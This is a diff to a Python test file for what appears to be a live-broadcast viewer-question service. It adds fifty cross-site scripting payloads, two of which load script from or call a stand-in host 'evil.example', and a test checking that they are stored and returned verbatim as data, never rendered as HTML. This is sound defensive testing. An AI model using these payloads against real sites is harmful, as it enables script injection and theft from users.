@@ -266,3 +266,41 @@ def test_schemathesis_finds_no_server_error(live: LiveServer) -> None:
 
         check()
     assert not failures, failures[:5]
+
+
+XSS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
+    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">жми</a>",
+    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1)>",
+    "<link rel=stylesheet href=javascript:alert(1)>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<base href=javascript:alert(1)//>", "<style>@import 'javascript:alert(1)';</style>", "<div style=\"x:expression(alert(1))\">",
+    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=\"x\" onerror=\"fetch('//evil.example')\">",
+    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<x onclick=alert(1)>нажми</x>", "<table background=javascript:alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img srcset=x onerror=alert(1)>", "<select onfocus=alert(1) autofocus>",
+    "<textarea onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>",
+    "\u202e<script>alert(1)</script>", "<script>alert('Қашан жол жөнделеді?')</script>", "Сұрақ <b>жол</b> туралы <i>қашан</i>?",
+    "<!--<img src=x onerror=alert(1)>-->",
+]
+
+
+def test_fifty_xss_payloads_come_back_unchanged_as_data(live: LiveServer) -> None:
+    assert len(XSS) == 50
+    show = live.show()
+    ids = ingest(live.url, live.token("ingest"),
+                 [message(i, f"{payload} Когда починят дорогу?") for i, payload in enumerate(XSS)]).json()["ids"]
+    mod = live.login("xss-mod")
+    for i, qid in enumerate(ids):
+        q = mod.get(f"/api/questions/{qid}").json()
+        assert q["text_original"] == f"{XSS[i]} Когда починят дорогу?"  # stored and returned exactly
+        assert XSS[i].strip() in q["text"] or XSS[i].startswith("\u202e")  # the air text keeps it as text
+    listed = mod.get(f"/api/shows/{show['id']}/questions", params={"limit": 100})
+    assert listed.headers["content-type"].startswith("application/json")  # never served as HTML
+    exported = live.login("xss-prod", "producer").get(f"/api/shows/{show['id']}/export.csv")
+    assert "<script>alert(1)</script>" in exported.text and exported.headers["content-type"].startswith("text/csv")
